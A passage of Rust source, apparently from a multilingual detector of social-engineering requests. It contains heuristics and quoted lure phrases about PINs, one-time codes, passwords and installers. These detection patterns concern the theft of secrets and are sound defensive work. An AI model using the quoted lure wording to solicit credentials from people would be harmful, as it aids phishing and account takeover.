                    || named_body
                    || first_person_es
                    || self.asked_on_a_call(v, i))
            {
                return Some((Act { at: i }, "explicit ask"));
            }
        }
        None
    }

    /// A secret the reader will be asked for on a telephone call the
    /// message arranges: "the agent will ask you for the card's PIN", "I'll
    /// call you in five minutes, have the code ready, I'll ask you for it".
    /// Whoever asks, the secret is read out to a voice the message sent.
    fn asked_on_a_call(&self, v: &View<'_>, ask: usize) -> bool {
        const SECRET_WITHIN: usize = 8;
        let toks = self.toks;
        if self.message_cls & C::V_CALL.bit() == 0 || self.thing_asks(v, ask) {
            return false;
        }
        // A call made, not a phone named: "call", "llame", not "telefono".
        let called = toks.iter().any(|t| {
            t.cls & C::V_CALL.bit() != 0 && t.cls & bits(&[C::PHONE_LINE, C::O_DEVICE]) == 0
        });
        if !called {
            return false;
        }
        let secret = bits(&[C::O_CREDENTIAL, C::O_CODE]);
        let named = v
            .idx()
            .filter(|&j| j > ask && j <= ask + SECRET_WITHIN)
            .any(|j| toks[j].cls & secret != 0 && toks[j].cls & C::NOT_SECRET.bit() == 0);
        // "Te lo pediré": the code named earlier in the clause or in the
        // clauses just before, or a code said to reach the reader's phone.
        let referred = v.near(ask, C::PRONOUN, 2, 0).is_some()
            && (self.code_sent
                || (v.back.start..ask).any(|j| toks[j].cls & secret != 0 && !toks[j].quoted));
        named || referred
    }

    /// "The app will ask you to type", "el sistema te pedirá cambiarla":
    /// a program's prompt, told; not someone asking. An agent or a
    /// technician ("el agente le pedirá") is someone.
    fn thing_asks(&self, v: &View<'_>, ask: usize) -> bool {
        let thing = bits(&[C::O_SOFTWARE, C::O_DEVICE]);
        let someone = bits(&[C::O_PAYEE, C::O_PEOPLE, C::SUPPORT_ROLE]);
        v.idx()
            .filter(|&j| j < ask && j + 3 >= ask)
            .any(|j| self.toks[j].cls & thing != 0 && self.toks[j].cls & someone == 0)
    }

    /// The need at `need` is in the third person ("needs", "braucht",
    /// "necesita", "a besoin"). French "a" before "besoin" is taken off
    /// `before`, the words before the need, since it stands between the
    /// subject and the need.
    fn third_person_need(&self, need: usize, before: &mut Vec<usize>) -> bool {
        let word = self.word(need);
        match self.langs[0] {
            EN => word.ends_with('s'),
            DE => word.ends_with('t'),
            ES => word.ends_with('a') || word.ends_with('e'),
            // "a besoin": the auxiliary stands between the name and the need;
            // or is its unit ("aurait besoin", "aura besoin").
            FR => {
                ["a besoin", "aura besoin", "aurait besoin"].contains(&word)
                    || word == "besoin" && before.pop().is_some_and(|j| self.word(j) == "a")
            }
            _ => false,
        }
    }

    /// Support staff named by their role need it: "el técnico necesita",
    /// "le technicien a besoin", "el técnico Juan necesita".
    fn support_role_needs(&self, v: &View<'_>, need: usize) -> bool {
        let mut before: Vec<usize> = v
            .idx()
            .take_while(|&j| j < need)
            .filter(|&j| self.toks[j].cls & bits(&[C::FILLER, C::ARTICLE]) == 0)
            .collect();
        let role = |j: usize| self.toks[j].cls & C::SUPPORT_ROLE.bit() != 0;
        self.third_person_need(need, &mut before)
            && (before.last().is_some_and(|&j| role(j))
                || self.names_before(v, need).is_some_and(role))
    }

    /// The word before a list of names that ends just before `at`: "our
    /// engineers | Lea Hoffmann and Jan Wirtz | need", "nuestros técnicos |
    /// Lea y Tom | necesitan". A name is a word of no class (a month's
    /// abbreviation such as "Jan" may be one too); names are joined by a
    /// conjunction or a comma, at most three words each and six in all.
    fn names_before(&self, v: &View<'_>, at: usize) -> Option<usize> {
        let toks = self.toks;
        let nameish = |j: usize| toks[j].cls & !C::DAY_NAME.bit() == 0 && !toks[j].digits;
        let (mut names, mut run, mut next) = (0, 0, at);
        for j in v.idx().rev().skip_while(|&j| j >= at) {
            // Mail is wrapped: a line break may fall inside the list.
            if toks[next].sep > Sep::Line {
                return None;
            }
            if nameish(j) && run < 3 {
                names += 1;
                run += 1;
            } else if run > 0 && toks[j].cls & C::CONJUNCTION.bit() != 0 {
                run = 0;
            } else {
                // The word before the first name, if a name stood there.
                return (run > 0).then_some(j);
            }
            if names > 6 {
                return None;
            }
            next = j;
        }
        None
    }

    /// A person named by name alone opens the clause, the need at `need`
    /// in the third person: "Marina Costa needs access", "Jonas braucht",
    /// "Marta necesita", "Paul a besoin". A name is a word or three of no
    /// class; a pronoun or determiner ("this needs") is none.
    fn named_subject(&self, v: &View<'_>, need: usize) -> bool {
        const NOT_NAMES: &[&str] = &[
            "this",
            "that",
            "everything",
            "everyone",
            "everybody",
            "something",
            "which",
            "who",
            "each",
            "every",
            "dies",
            "das",
            "alles",
            "jeder",
            "esto",
            "eso",
            "todo",
            "cela",
            "ceci",
            "ca",
            "tout",
            "qui",
        ];
        let toks = self.toks;
        let mut before: Vec<usize> = v
            .idx()
            .take_while(|&j| j < need)
            // "Die Notarin braucht", "the notary needs": a person named by
            // an unknown noun after its article.
            .filter(|&j| toks[j].cls & bits(&[C::FILLER, C::ARTICLE]) == 0)
            .collect();
        let third_person = self.third_person_need(need, &mut before);
        let is_name = |j: usize| {
            let w = self.word(j);
            toks[j].cls == 0 && !toks[j].digits && w.len() >= 2 && !NOT_NAMES.contains(&w)
        };
        let names = before.iter().rev().take_while(|&&j| is_name(j)).count();
        // The name may follow the writer's word for the person: "our
        // consultant Malin Dahl needs", "unser Techniker Jan Vogt braucht".
        let introduced = || {
            let rest = &before[..before.len() - names];
            rest.iter()
                .rev()
                .take(2)
                .any(|&j| toks[j].cls & C::WRITER_OWN.bit() != 0)
        };
        // Or opens a clause after a comma: "pour l'audit de lundi, Maëlle
        // aurait besoin ...".
        let after_comma = before[before.len() - names..]
            .iter()
            .rposition(|&j| toks[j].sep == Sep::Comma)
            .is_some_and(|k| names - k <= 3);
        third_person
            && (1..=3).contains(&names)
            && (names == before.len() || introduced() || after_comma)
    }

    /// The obligation at `must` is put on the readers by what they are to
    /// the writer: "subscribers must apply ...", "alle Anwender müssen
    /// ...", "les utilisateurs doivent ...".
    fn readers_by_kind(&self, v: &View<'_>, must: usize) -> bool {
        const KINDS: &[&str] = &[
            "customer",
            "client",
            "user",
            "admin",
            "subscriber",
            "kunde",
            "kunden",
            "nutzer",
            "benutzer",
            "anwender",
            "utilisateur",
            "abonn",
            "usuario",
            // The organisation's own people: "every employee must ...",
            // "die Mitarbeiter müssen ...", "les salariés doivent ...".
            "staff",
            "employe",
            "mitarbeit",
            "salari",
            "collaborat",
            "colaborador",
            "emplead",
        ];
        let skip = bits(&[C::ARTICLE, C::BULK, C::FILLER]);
        let kind = |j: usize| {
            let w = self.word(j);
            // German compounds end in their kind: "Portalnutzer".
            KINDS
                .iter()
                .any(|k| w.starts_with(k) || self.langs[0] == DE && w.ends_with(k))
        };
        // "Chaque vendeur doit ...", "every manager must ...": each of
        // a group of people, the reader among them.
        let each_of_people = |j: usize| {
            self.toks[j].cls & (C::OTHERS.bit() | C::O_PEOPLE.bit()) != 0
                && v.idx().take_while(|&k| k < j).last().is_some_and(|k| {
                    matches!(
                        self.word(k),
                        "every" | "each" | "chaque" | "jeder" | "jede" | "cada"
                    )
                })
        };
        let before = v
            .idx()
            .rfind(|&j| j < must && self.toks[j].cls & skip == 0)
            .is_some_and(|j| j + 3 >= must && (kind(j) || each_of_people(j)));
        // German puts the subject after the verb when a phrase opens the
        // clause: "ab Januar müssen alle Nutzer ...".
        let after = self.langs[0] == DE
            && v.idx()
                .find(|&j| j > must && self.toks[j].cls & skip == 0)
                .is_some_and(|j| j <= must + 3 && kind(j));
        before || after
    }

    /// German puts the verb second: after a fronted time or place ("vor
    /// dem Termin muss ... installiert sein") a passive obligation with no
    /// person before it, and none just after, is put on whoever reads. An
    /// active one ("im Notfall muss der Dienst ... zurücksetzen") names
    /// its own subject.
    fn after_fronted_phrase(&self, v: &View<'_>, verb: usize) -> bool {
        let toks = self.toks;
        let persons = bits(&[
            C::ADDRESSEE,
            C::WRITER_SUBJECT,
            C::WRITER_OBJECT,
            C::THIRD_PARTY,
            C::BENEFICIARY,
            C::TITLE,
            C::CONDITION,
            C::WH,
            C::NEGATION,
        ]);
        let before: Vec<usize> = v.idx().take_while(|&j| j < verb).collect();
        let subject_after = v
            .idx()
            .find(|&j| j > verb)
            .is_some_and(|j| toks[j].cls & persons != 0 || matches!(self.word(j), "er" | "es"));
        let passive = v
            .idx()
            .last()
            .is_some_and(|j| matches!(self.word(j), "sein" | "werden"));
        passive
            && (1..=8).contains(&before.len())
            && before
                .iter()
                .all(|&j| toks[j].cls & (persons | bits(VERBS)) == 0)
            && !subject_after
    }

    /// "If you could send me ...", "wenn Sie mir ... zukommen lassen
    /// könnten", "si vous pouviez m'envoyer", "si me pudiera enviar": a
    /// condition put to the reader in the conditional is how one asks
    /// politely, not a supposition ("if you could not sign in" is one).
    /// The modal's place.
    fn polite_condition(&self, v: &View<'_>) -> Option<usize> {
        let toks = self.toks;
        // The condition may follow what it would do: "it would help if".
        let cond = v.first(C::CONDITION)?;
        let you = v.near(cond, C::ADDRESSEE, 0, 2)?;
        let found = v.idx().filter(|&i| i > cond).find(|&i| {
            let w = self.word(i);
            toks[i].cls & C::MODAL.bit() != 0
                && (w == "could"
                    || w.starts_with("konnt")
                    || w.starts_with("pourri")
                    || w.starts_with("pourrai")
                    || w.starts_with("pouvi")
                    || w.starts_with("pouvai")
                    || w.starts_with("pudier")
                    || w.starts_with("podri"))
        });
        // "The quickest way is if you read me ...": the condition is what
        // the writer names as the way, its verb right after "you".
        let named_way = || {
            (cond > v.range.start && matches!(self.word(cond - 1), "is" | "be" | "would be"))
                .then_some(you + 1)
                .filter(|&i| v.range.contains(&i) && is_verb(toks[i].cls))
        };
        // A negation before the verb denies the condition; one after it
        // belongs to what follows ("... so you won't miss the cut-off").
        found
            .or_else(named_way)
            .filter(|&i| !(cond..i).any(|j| toks[j].cls & C::NEGATION.bit() != 0))
    }

    /// A button's words on a line of their own before its address: "Se
    /// connecter à la console : https://...", "Vérifier mon compte :",
    /// "Jetzt anmelden: https://...". Buttons put the verb in the
    /// infinitive and speak as the reader ("my account"); the line is an
    /// order all the same. The verb's place.
    fn call_to_action(&self, v: &View<'_>) -> Option<usize> {
        let toks = self.toks;
        // "Please download X from https://...": a sentence, read as one.
        if v.all() & bits(&[C::POLITE, C::ADDRESSEE, C::NEGATION]) != 0 {
            return None;
        }
        let words: Vec<usize> = v.idx().collect();
        let (&first, &last) = (words.first()?, words.last()?);
        let verb = words.iter().take(2).copied().find(|&i| {
            is_verb(toks[i].cls) || toks[i].cls & bits(&[C::V_SIGNIN, C::V_VERIFY]) != 0
        })?;
        // What the button acts on is on it ("mon compte"): "Jetzt
        // anmelden" under a webinar registers, "Abmelden" unsubscribes.
        let objects = bits(&[
            C::O_ACCOUNT,
            C::O_CREDENTIAL,
            C::O_IDENTITY,
            C::O_MFA,
            C::O_CODE,
            C::O_PAY_DEST,
            C::O_REMOTE,
        ]);
        let object = words
            .iter()
            .any(|&i| i != verb && toks[i].cls & objects != 0);
        ((2..=5).contains(&words.len())
            && object
            && (first == 0 || toks[first].sep >= Sep::Line)
            && toks[last].link
            && !toks[first].quoted)
            .then_some(verb)
    }

    /// "You can grab the installer from https://.../setup.exe", "Sie
    /// können das Tool unter ... herunterladen": the reader is told he may
    /// install a program a link hands over. Put that way it is the
    /// instruction itself: the program is the writer's. Returns the verb.
    fn program_offered(&self, v: &View<'_>) -> Option<usize> {
        let toks = self.toks;
        if v.all() & (C::NEGATION.bit() | C::WH.bit()) != 0 {
            return None;
        }
        let program = v.idx().find(|&i| toks[i].program_link)?;
        let modal = v.idx().take_while(|&i| i < program).find(|&i| {
            toks[i].cls & C::MODAL.bit() != 0 && v.near(i, C::ADDRESSEE, 1, 1).is_some()
        })?;
        v.idx()
            .filter(|&i| i > modal && i < program)
            .find(|&i| toks[i].cls & C::V_INSTALL.bit() != 0)
    }

    /// A line or list item that ends its words in a German infinitive
    /// ("installieren", before a colon or a web address at most) with
    /// an object of a request on it: an order, as instructions give them.
    fn infinitive_order(&self, v: &View<'_>) -> Option<usize> {
        let toks = self.toks;
        let persons = bits(&[
            C::ADDRESSEE,
            C::WRITER_SUBJECT,
            C::NEGATION,
            C::MODAL,
            C::MUST,
        ]);
        if v.all() & persons != 0 {
            return None;
        }
        let mut words: Vec<usize> = v.idx().collect();
        // The next item's number ("... herunterladen 2. starten ...")
        // closes this one; it is not its last word.
        if words.len() > 1
            && words
                .last()
                .is_some_and(|&i| toks[i].digits && toks[i].stop)
        {
            words.pop();
        }
        let (&first, &last) = (words.first()?, words.last()?);
        let own_line = first == 0
            || toks[first].sep >= Sep::Line
            || toks[first - 1].digits && toks[first - 1].stop;
        if !own_line || !(2..=8).contains(&words.len()) {
            return None;
        }
        let verb = words.iter().copied().find(|&i| {
            let w = self.word(i);
            // A button's quoted name ("\"Kennwort ändern\" wählen") is
            // what a step presses, not the step.
            !toks[i].label
                && is_verb(toks[i].cls)
                && (i == last || toks[i].colon || toks[i].link)
                // "... fordert dich der Laptop auf, 1. eine PIN zu
                // wählen": an infinitive with "zu" goes on another verb.
                && !(i > 0 && self.word(i - 1) == "zu")
                && ["en", "ern", "eln"].iter().any(|x| w.ends_with(x))
        })?;
        // What a step acts on, not whom or how much it pays.
        let objects = noun_classes()
            & !bits(&[
                C::O_DEVICE,
                C::O_PAYMENT,
                C::O_TRANSFER,
                C::O_GIFT,
                C::O_PAYROLL,
                C::O_PEOPLE,
                C::O_PAYEE,
            ]);
        // "Hier bestätigen: https://...": a confirming button whose link
        // follows, after a sentence about the reader's own account or bank
        // details, acts on those.
        let confirms_what_came_before = toks[verb].cls & (C::V_VERIFY.bit() | C::V_SIGNIN.bit())
            != 0
            && toks[verb].link
            && self.readers_account_before(v);
        (confirms_what_came_before
            || words
                .iter()
                .any(|&i| i != verb && toks[i].cls & objects != 0 || toks[i].program_link))
        .then_some(verb)
    }

    /// "The update needs to be installed on your host", "ton mot de passe
    /// doit être changé", "Ihr Kennwort muss geändert werden": after the
    /// obligation at `must`, a passive whose place or subject is the
    /// reader's own.
    fn passive_on_readers_own(&self, v: &View<'_>, must: usize) -> bool {
        const REACH: usize = 5;
        let after: Vec<usize> = v.idx().filter(|&j| j > must).take(REACH).collect();
        let verb = match after.as_slice() {
            [be, verb, ..] if matches!(self.word(*be), "be" | "etre" | "ser") => Some(*verb),
            // German puts the participle last, before "werden".
            _ => after
                .windows(2)
                .find(|w| self.word(w[1]) == "werden")
                .map(|w| w[0]),
        };
        // The subject, counted in words: "Ihr neues Kennwort muss".
        let readers_subject = || {
            v.idx()
                .filter(|&j| j < must)
                .rev()
                .take(3)
                .any(|j| self.toks[j].cls & C::READER_OWN.bit() != 0)
        };
        verb.is_some_and(|verb| {
            is_verb(self.toks[verb].cls)
                && (v.near(verb, C::READER_OWN, 0, 4).is_some() || readers_subject())
        })
    }

    /// Whether the sentence of the clause ends in a question mark.
    /// The modal at `modal` asks "someone", whoever reads: "could
    /// someone", "kann jemand", with an object pronoun between them
    /// ("könnte mir jemand", "¿me podría alguien"), or "someone" before
    /// it in a question ("est-ce que quelqu'un peut ... ?", "¿alguien
    /// puede ...?"); not "nobody can".
    fn asks_someone(&self, v: &View<'_>, modal: usize) -> bool {
        let toks = self.toks;
        let after = v.near(modal, C::THIRD_PARTY, 0, 1).or_else(|| {
            v.near(modal, C::WRITER_OBJECT, 0, 1)
                .and_then(|o| v.near(o, C::THIRD_PARTY, 0, 1))
        });
        let before = || {
            v.idx().take_while(|&j| j < modal).last().is_some_and(|t| {
                toks[t].cls & C::THIRD_PARTY.bit() != 0 && toks[t].cls & C::OTHERS.bit() == 0
            }) && self.asks_question(v)
        };
        // "Could one of your colleagues reset ...": one of the readers.
        let next: Vec<usize> = v.idx().filter(|&j| j > modal).take(3).collect();
        let one_of_yours = next.len() == 3
            && self.word(next[0]) == "one"
            && self.word(next[1]) == "of"
            && toks[next[2]].cls & C::ADDRESSEE.bit() != 0;
        after.is_some() || one_of_yours || before()
    }

    fn asks_question(&self, v: &View<'_>) -> bool {
        let toks = self.toks;
        v.range.clone().any(|i| toks[i].question)
            || toks[v.range.end..]
                .iter()
                .take_while(|t| t.sep < Sep::Sentence)
                .take(40)
                .any(|t| t.question)
    }

    /// A clause that describes what someone else can do: a subject that is
    /// neither the reader, the writer nor someone reported, then "can"
    /// ("admins can now reset a user's MFA", "les administrateurs peuvent
    /// désormais ..."): release notes and how-tos, not a request.
    fn describes_ability(&self, v: &View<'_>) -> bool {
        let toks = self.toks;
        if v.all() & C::MODAL.bit() == 0 || self.asks_question(v) {
            return false;
        }
        let Some(m) = v.idx().find(|&i| toks[i].cls & C::MODAL.bit() != 0) else {
            return false;
        };
        if !matches!(
            self.word(m),
            "can"
                | "konnen"
                | "kann"
                | "peuvent"
                | "peut"
                | "pueden"
                | "puede"
                | "podran"
                | "pourront"
        ) {
            return false;
        }
        // The subject starts the modal's line: a heading above it ("What's
        // new this month") may run into the clause.
        let line = v
            .idx()
            .take_while(|&i| i <= m)
            .filter(|&i| toks[i].sep >= Sep::Line && toks[i].sep != Sep::Paren)
            .last()
            .unwrap_or(v.range.start);
        let before: Vec<usize> = v
            .idx()
            .skip_while(|&i| i < line)
            .take_while(|&i| i < m)
            .filter(|&i| toks[i].cls & C::FILLER.bit() == 0)
            .collect();
        let persons = bits(&[
            C::ADDRESSEE,
            C::WRITER_SUBJECT,
            C::WRITER_OWN,
            C::WRITER_OBJECT,
            C::THIRD_PARTY,
            C::POLITE,
            C::CONDITION,
            C::WH,
            C::SUPPORT_ROLE,
            C::PRONOUN,
            C::BENEFICIARY,
            C::NEGATION,
        ]);
        // What follows "can" is done by the subject, not needed from the reader.
        let needs = v
            .idx()
            .skip_while(|&i| i <= m)
            .take(3)
            .any(|i| toks[i].cls & bits(&[C::NEED, C::MUST, C::ASK]) != 0);
        !before.is_empty()
            && before.len() <= 4
            && before.iter().all(|&i| toks[i].cls & persons == 0)
            && !needs
    }

    fn read(&mut self, clauses: &[Clause], phone_at: &[(usize, String)]) {
        let toks = self.toks;
        self.number_given = !phone_at.is_empty();
        self.familiar = self.langs[0] == FR
            && toks.iter().any(|t| {
                matches!(
                    &self.buffer[t.start..t.end],
                    "tu" | "ton" | "ta" | "tes" | "toi"
                )
            });
        let mut requested = false;
        let mut flags = Flags::default();
        // An act whose clause ends in a colon carries over to the list after it.
        // With the clause that opened the list: its verb ("please confirm:",
        // "pourriez-vous lui donner :") pairs with each item's object.
        let mut carried: Option<(Act, &'static str, usize, usize, bool)> = None;
        let mut link_ends_list: Option<usize> = None;
        let mut writers_list = 0usize;
        let mut prev_act = false;
        // The act of the clause just read, and where that clause starts: a
        // second object after "puis", "sowie", "and then" goes with it.
        let mut prev_asked: Option<(Act, &'static str, usize)> = None;
        let verbs_and_objects = bits(VERBS)
            | bits(&[
                C::O_CREDENTIAL,
                C::O_CODE,
                C::O_MFA,
                C::O_PUSH,
                C::O_ACCESS,
                C::O_ACCOUNT,
                C::O_REMOTE,
                C::O_SOFTWARE,
                C::O_PAY_DEST,
                C::O_PAYMENT,
                C::O_TRANSFER,
                C::O_GIFT,
                C::O_PAYROLL,
                C::O_DATA,
                C::O_LIST,
            ]);
        let mut prev_subject = false;
        let objects = verbs_and_objects & !bits(VERBS);
        // Someone else's words go on after "the caller wanted that ..." and
        // in the list after "they asked for:".
        let mut prev_reported = false;
        let mut prev_unasked = false;
        let mut prev_polite = false;
        let mut reported_list = 0usize;
        let mut past_sentence = None;
        // Pronouns refer back only to what the writer said plainly: not to a
        // negated or hypothetical clause ("we never ask for your password;
        // check it in the directory").
        let mut back_from = 0;
        for (n, clause) in clauses.iter().enumerate() {
            if n == 0 || clause.sentence > clauses[n - 1].sentence + 1 {
                back_from = clause.toks.start;
            }
            let v = View::new(
                toks,
                self.visible,
                clause.toks.clone(),
                back_from..clause.toks.start,
                clause.aside,
            );
            let all = v.all();
            let same_sentence = n > 0 && clause.sentence == clauses[n - 1].sentence;
            let opening_condition = v.idx().find(|&i| {
                toks[i].cls & C::FILLER.bit() == 0 || toks[i].cls & C::CONDITION.bit() != 0
            });
            // "Can you tell me ... and whether you can run the export?": after
            // an ask to the reader, "whether" opens the question asked, not a
            // hypothetical.
            let asked_whether = opening_condition
                .is_some_and(|i| matches!(self.word(i), "whether" | "ob"))
                && prev_act
                && same_sentence;
            let hypothetical = opening_condition
                .is_some_and(|i| toks[i].cls & C::CONDITION.bit() != 0)
                && !asked_whether
                && self.polite_condition(&v).is_none();
            let negated = self.negated(&v);
            if hypothetical
                && all
                    & bits(&[
                        C::ADDRESSEE,
                        C::WRITER_SUBJECT,
                        C::WRITER_OWN,
                        C::WRITER_OBJECT,
                        C::POLITE,
                    ])
                    == 0
                && clause.toks.end > clause.toks.start
            {
                self.scenes
                    .push(toks[clause.toks.start].start..toks[clause.toks.end - 1].end);
            }
            // "Could someone install ...": the someone is the reader.
            let asked_anyone = v
                .idx()
                .any(|i| toks[i].cls & C::MODAL.bit() != 0 && self.asks_someone(&v, i));
            let complement = v
                .idx()
                .next()
                .is_some_and(|i| matches!(self.word(i), "dass" | "that" | "que" | "dab"));
            // "Callers claim to be IT and ask you to ...": the clause after
            // the "and" goes on telling what they do.
            let goes_on = v
                .idx()
                .next()
                .is_some_and(|i| toks[i].cls & C::CONJUNCTION.bit() != 0);
            // Not after a request: "please have someone run the client and
            // share the code" asks both.
            let goes_on_telling = goes_on && prev_reported && same_sentence && !prev_polite;
            // "Nobody will ever ask you to read out a code, type your
            // password into a chat ...": the verbs after the comma go on
            // the list of what is never asked.
            let asks_listed = prev_unasked
                && same_sentence
                && toks[clause.toks.start].sep == Sep::Comma
                && is_verb(toks[clause.toks.start].cls);
            // "Her message was short: ...", "Der Text war: ...":
            // a past "was" before a colon frames what was said then, in its
            // speaker's words, up to the colon's clause and a few after.
            let past_frame = v.idx().find(|&i| toks[i].colon).is_some_and(|colon| {
                let frame = || v.idx().take_while(move |&i| i <= colon);
                frame().all(|i| toks[i].cls & bits(&[C::POLITE, C::ADDRESSEE, C::MODAL]) == 0)
                    && frame().any(|i| {
                        matches!(
                            self.word(i),
                            "was"
                                | "were"
                                | "war"
                                | "waren"
                                | "etait"
                                | "etaient"
                                | "era"
                                | "eran"
                                | "fue"
                                | "fueron"
                        )
                    })
            });
            let reported = past_frame
                || all & C::THIRD_PARTY.bit() != 0 && !asked_anyone
                || asks_listed
                || all & C::WARNING.bit() != 0
                || complement && prev_reported && same_sentence
                || goes_on_telling
                || reported_list > 0;
            let opens_list = self.opens_list(clause);
            // "He wanted one of these:" opens a list of someone else's asks.
            let third_person_list = all & C::BENEFICIARY.bit() != 0
                && all & bits(&[C::POLITE, C::ADDRESSEE, C::MODAL]) == 0;
            // A lure told as said then is not the writer's either: to the
            // end of the sentence.
            if past_frame {
                past_sentence = Some(clause.sentence);
            }
            if past_sentence == Some(clause.sentence) && clause.toks.end > clause.toks.start {
                self.described
                    .push(toks[clause.toks.start].start..toks[clause.toks.end - 1].end);
                self.retold.push(clause.toks.clone());
            }
            // "La facture est sur leur portail : https://...": the colon
            // opens a link, no list of their asks.
            let opens_link = clause.toks.end > clause.toks.start && toks[clause.toks.end - 1].link;
            reported_list =
                if (reported || third_person_list) && opens_list && !opens_link || past_frame {
                    6
                } else {
                    reported_list.saturating_sub(1)
                };
            prev_reported = reported;
            prev_polite = all & C::POLITE.bit() != 0;
            let free = !hypothetical && !negated && !reported;
            prev_unasked = !free && !hypothetical && (all & C::ASK.bit() != 0 || asks_listed);
            // "I will treat your application in confidence": the reader's
            // application, so the writer is no applicant.
            let readers_application = v
                .idx()
                .filter(|&i| toks[i].cls & C::APPLYING.bit() != 0)
                // "Via notre application": an app, no application for a job.
                .all(|i| {
                    v.near(i, C::READER_OWN, 2, 0).is_some()
                        || toks[i].cls & C::O_SOFTWARE.bit() != 0 && !self.word(i).contains(' ')
                });
            let noted = if readers_application {
                all & !C::APPLYING.bit()
            } else {
                all
            };
            // "my card was billed", "mi banco": the writer in the
            // first person singular, as a customer writes of a charge.
            let writer_alone = all & C::TRANSACTION.bit() != 0
                && v.idx().any(|i| {
                    matches!(
                        self.word(i),
                        "i" | "i've"
                            | "ive"
                            | "my"
                            | "ich"
                            | "mein"
                            | "meine"
                            | "meiner"
                            | "meinem"
                            | "meinen"
                            | "je"
                            | "j"
                            | "mon"
                            | "ma"
                            | "mes"
                            | "yo"
                            | "mi"
                            | "mis"
                    )
                });
            flags.note(noted, free, hypothetical, writer_alone);
            if n == 0 || clause.sentence != clauses[n - 1].sentence {
                let code_to_reader = bits(&[C::O_CODE, C::DELIVERED, C::ADDRESSEE]);
                // Spanish puts the reader in the verb's ending: "le llegará
                // un código".
                let sentence_toks = || {
                    clauses
                        .iter()
                        .skip(n)
                        .take_while(|c| c.sentence == clause.sentence)
                        .flat_map(|c| c.toks.clone())
                };
                let reader_receives = self.langs[0] == ES
                    && sentence_toks().any(|i| toks[i].cls & C::O_CODE.bit() != 0)
                    && sentence_toks().any(|i| {
                        matches!(
                            self.word(i),
                            "recibira"
                                | "recibiras"
                                | "recibe"
                                | "recibes"
                                | "recibireis"
                                | "recibis"
                                | "llegara"
                                | "te llegara"
                                | "le llegara"
                        )
                    });
                self.code_sent |=
                    self.sentence_cls & code_to_reader == code_to_reader || reader_receives;
                let (mut cls, mut amount, mut usual) = (0, false, false);
                for c in clauses
                    .iter()
                    .skip(n)
                    .take_while(|c| c.sentence == clause.sentence)
                {
                    let here = c.toks.clone().fold(0, |a, i| a | toks[i].cls);
                    cls |= here;
                    amount |= c.toks.clone().any(|i| toks[i].amount);
                    // Not in a clause opened by a conjunction: see
                    // `sentence_usual`.
                    usual |= here & C::UNCHANGED.bit() != 0
                        && toks[c.toks.start].cls & C::CONJUNCTION.bit() == 0;
                }
                self.sentence_cls = cls;
                self.sentence_amount = amount;
                self.sentence_usual = usual;
            }
            // "..., sign in to the portal" after a purpose or a greeting may
            // command; "... and pay a fee" in a story may not: a clause
            // opened by a conjunction commands only after a request.
            let opened_by_conjunction = v
                .idx()
                .next()
                .is_some_and(|i| toks[i].cls & C::CONJUNCTION.bit() != 0);
            // A clause cut at a bare line break (after a short line) goes on
            // the sentence before it: an order only after an order.
            let line_cut = !clause.aside && toks[clause.toks.start].sep == Sep::Line;
            // After a colon comes what the clause before announced: "I can
            // fix it in ten minutes: install the tool ...".
            let after_colon = clause.toks.start > 0 && toks[clause.toks.start - 1].colon;
            // "Go to https://... and type your password": the clause
            // before pointed the reader at a page.
            let after_link = n > 0
                && same_sentence
                && clauses[n - 1].toks.end > clauses[n - 1].toks.start
                && toks[clauses[n - 1].toks.end - 1].link;
            self.follows_link = after_link;
            self.may_command = n == 0
                || clause.sentence != clauses[n - 1].sentence
                || prev_act
                || after_link
                || after_colon && !opened_by_conjunction
                || !prev_subject && !opened_by_conjunction && !line_cut;
            // Only a clause with a verb or an object of a request, or one
            // that opens a list, can make a request: the rest is not read
            // for an act.
            // A need of something on a machine names programs by their
            // product names ("I need Gnuplot on my notebook").
            // Passing something on ("leiten Sie es an die Finanzabteilung weiter")
            // takes up what was said before.
            // Signing in ("connectez-vous") is an act of its own.
            let relevant = all
                & (verbs_and_objects | bits(&[C::POLITE, C::TELL_OTHER, C::V_SIGNIN, C::V_VERIFY]))
                != 0
                || opens_list
                || all & C::NEED.bit() != 0 && all & C::O_DEVICE.bit() != 0
                || n > 0 && self.does_that(&v);
            // Hypothetical clauses are not muted: "if you do not confirm
            // your password today, ..." is how a threat asks.
            if (negated || reported)
                && !hypothetical
                && all & verbs_and_objects != 0
                && clause.toks.end > clause.toks.start
            {
                self.muted
                    .push(toks[clause.toks.start].start..toks[clause.toks.end - 1].end);
            }
            // A digest's heading ("Reset your MFA habits for the new year")
            // titles an article; a phrase found there asks nothing.
            let heading = clause.toks.end > clause.toks.start
                && toks[clause.toks.start].heading
                && all & C::POLITE.bit() == 0;
            if (heading || free && self.describes_ability(&v))
                && clause.toks.end > clause.toks.start
            {
                self.described
                    .push(toks[clause.toks.start].start..toks[clause.toks.end - 1].end);
            }
            let mut own = if free && relevant { self.act(&v) } else { None };
            // "Das Postfach wird deaktiviert, falls Sie die Anmeldedaten
            // nicht prüfen": a loss in the sentence if the reader does not
            // do something is an order to do it.
            if own.is_none() && relevant && negated && !reported {
                own = self.threatened_condition(clauses, n, &v, hypothetical);
            }
            // "Every request for ... is checked by a callback": requests of
            // a kind are spoken of (the asking is a noun after a
            // quantifier), none is made; a phrase found there asks nothing.
            if own.is_none()
                && clause.toks.end > clause.toks.start
                && v.idx().any(|i| {
                    toks[i].cls & C::ASK.bit() != 0
                        && i > v.range.start
                        && (toks[i - 1].cls & C::BULK.bit() != 0
                            || matches!(
                                self.word(i - 1),
                                "any" | "such" | "toute" | "tout" | "cualquier" | "jede" | "jeder"
                            ))
                })
            {
                self.described
                    .push(toks[clause.toks.start].start..toks[clause.toks.end - 1].end);
            }
            // The items of "we will:" are the writer's plan, not
            // imperatives; they stand on lines of their own ("I can fix it:
            // install the tool ..." goes on to an order).
            if writers_list > 0
                && toks[clause.toks.start].sep >= Sep::Line
                && own.is_some_and(|(_, how)| how == "imperative")
            {
                own = None;
            }
            // A statement with its subject just before the verb ("you reset
            // your password yourself", "we reset your password at ten")
            // tells what was done: a request's phrase found there asks
            // nothing.
            if free
                && own.is_none()
                && clause.toks.end > clause.toks.start
                && v.idx().any(|i| {
                    is_verb(toks[i].cls)
                        && toks[i].cls & bits(&[C::ADDRESSEE, C::WRITER_SUBJECT]) == 0
                        && i > v.range.start
                        && (toks[i - 1].cls & C::WRITER_SUBJECT.bit() != 0
                            || matches!(
                                self.word(i - 1),
                                "you"
                                    | "u"
                                    | "sie"
                                    | "du"
                                    | "ihr"
                                    | "vous"
                                    | "tu"
                                    | "usted"
                                    | "ustedes"
                                    | "vosotros"
                            ))
                })
            {
                self.muted
